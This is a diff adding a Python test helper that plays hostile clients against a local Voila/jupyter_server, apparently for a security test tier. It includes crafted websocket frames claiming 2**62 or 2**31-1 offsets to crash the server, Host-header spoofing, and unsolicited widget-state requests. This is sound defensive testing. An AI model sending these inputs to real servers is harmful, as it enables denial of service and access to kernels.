@@ -1,0 +1,162 @@
+"""Hostile clients of a Voila server, for the security tier and the fault reports.
+
+Each function plays one client that an unguarded Voila 0.5.13 / jupyter_server
+2.21.1 server cannot survive (see ``docs/upstream_faults.md``). They speak
+plain HTTP and websockets (tornado's client) to a server on 127.0.0.1.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+import time
+import urllib.error
+import urllib.request
+import uuid
+from dataclasses import dataclass
+
+from tornado.httpclient import HTTPClientError, HTTPRequest
+from tornado.websocket import WebSocketClosedError, websocket_connect
+
+V1_PROTOCOL = "v1.kernel.websocket.jupyter.org"
+
+#: 24 bytes that claim 2**62 offsets (v1 framing): count, then two offsets.
+V1_FRAME_OF_2_62_OFFSETS = (2**62).to_bytes(8, "little") + (16).to_bytes(8, "little") * 2
+
+
+@dataclass
+class OpenedPage:
+    """A Voila page fetched as a browser would: its kernel and its ``_xsrf`` cookie."""
+
+    kernel_id: str
+    xsrf: str | None
+
+
+def open_page(base: str, notebook: str = "welcome.ipynb", timeout: float = 90) -> OpenedPage:
+    """Fetch a notebook's page (which starts its kernel); return the kernel's id."""
+    with urllib.request.urlopen(f"{base}/voila/render/{notebook}", timeout=timeout) as reply:
+        text = reply.read().decode("utf-8")
+        cookies = reply.headers.get_all("Set-Cookie") or []
+    match = re.search(r'"kernelId":\s*"([0-9a-f-]{36})"', text)
+    if match is None:
+        raise AssertionError(f"no kernelId in the page of {notebook}")
+    xsrf = next(
+        (c.split(";")[0].split("=", 1)[1] for c in cookies if c.startswith("_xsrf=")), None
+    )
+    return OpenedPage(match.group(1), xsrf)
+
+
+def _channels_url(base: str, kernel_id: str) -> str:
+    return base.replace("http://", "ws://") + f"/api/kernels/{kernel_id}/channels?session_id=h"
+
+
+def _legacy_message(msg_type: str, content: dict) -> str:
+    """A kernel message in the legacy JSON framing, on the shell channel."""
+    return json.dumps(
+        {
+            "header": {
+                "msg_id": uuid.uuid4().hex,
+                "username": "",
+                "session": "h",
+                "msg_type": msg_type,
+                "version": "5.3",
+                "date": "2026-01-01T00:00:00Z",
+            },
+            "parent_header": {},
+            "metadata": {},
+            "content": content,
+            "channel": "shell",
+            "buffers": [],
+        }
+    )
+
+
+async def _send_v1_frame(base: str, kernel_id: str, frame: bytes) -> bool:
+    """Send one binary frame with the v1 subprotocol; True if the server then closed."""
+    socket = await websocket_connect(_channels_url(base, kernel_id), subprotocols=[V1_PROTOCOL])
+    try:
+        await socket.write_message(frame, binary=True)
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline:
+            message = await asyncio.wait_for(socket.read_message(), 5)
+            if message is None:
+                return True
+        return False
+    except (WebSocketClosedError, TimeoutError):
+        return False
+    finally:
+        socket.close()
+
+
+def send_v1_frame(base: str, kernel_id: str, frame: bytes) -> bool:
+    """Send ``frame`` on a v1 kernel websocket; True if the server closed the socket."""
+    return asyncio.run(_send_v1_frame(base, kernel_id, frame))
+
+
+async def _legacy_request_states(base: str, kernel_id: str, host: str | None) -> int | None:
+    headers = {"Host": host} if host else {}
+    request = HTTPRequest(_channels_url(base, kernel_id), headers=headers)
+    try:
+        socket = await websocket_connect(request)
+    except HTTPClientError as error:
+        return error.code
+    try:
+        comm_id = uuid.uuid4().hex
+        await socket.write_message(
+            _legacy_message(
+                "comm_open",
+                {"comm_id": comm_id, "target_name": "jupyter.widget.control", "data": {}},
+            )
+        )
+        await socket.write_message(
+            _legacy_message("comm_msg", {"comm_id": comm_id, "data": {"method": "request_states"}})
+        )
+        await asyncio.sleep(1)
+    finally:
+        socket.close()
+    return None
+
+
+def legacy_request_states(base: str, kernel_id: str, host: str | None = None) -> int | None:
+    """Open a kernel websocket without a subprotocol and ask for the widgets' states.
+
+    Returns the HTTP status if the server refused the websocket, else None
+    (after asking the kernel's widget control comm for its states).
+    """
+    return asyncio.run(_legacy_request_states(base, kernel_id, host))
+
+
+def get_status(url: str, host: str | None = None, timeout: float = 2) -> int:
+    """The HTTP status of a GET (optionally with another ``Host`` header)."""
+    request = urllib.request.Request(url, headers={"Host": host} if host else {})
+    try:
+        with urllib.request.urlopen(request, timeout=timeout) as reply:
+            return reply.status
+    except urllib.error.HTTPError as error:
+        return error.code
+
+
+#: 12 bytes that claim 2**31 - 1 parts (legacy framing): count, then one offset.
+LEGACY_FRAME_OF_2_31_PARTS = (2**31 - 1).to_bytes(4, "big") + (8).to_bytes(4, "big") + b"{}{}"
+
+
+async def _send_legacy_frame(base: str, kernel_id: str, frame: bytes) -> int | None:
+    try:
+        socket = await websocket_connect(_channels_url(base, kernel_id))
+    except HTTPClientError as error:
+        return error.code
+    try:
+        await socket.write_message(frame, binary=True)
+        await asyncio.sleep(0.5)
+    finally:
+        socket.close()
+    return None
+
+
+def send_legacy_frame(base: str, kernel_id: str, frame: bytes) -> int | None:
+    """Send one binary frame without a subprotocol (legacy framing).
+
+    Returns the HTTP status if the server refused the websocket, else None.
+    """
+    return asyncio.run(_send_legacy_frame(base, kernel_id, frame))
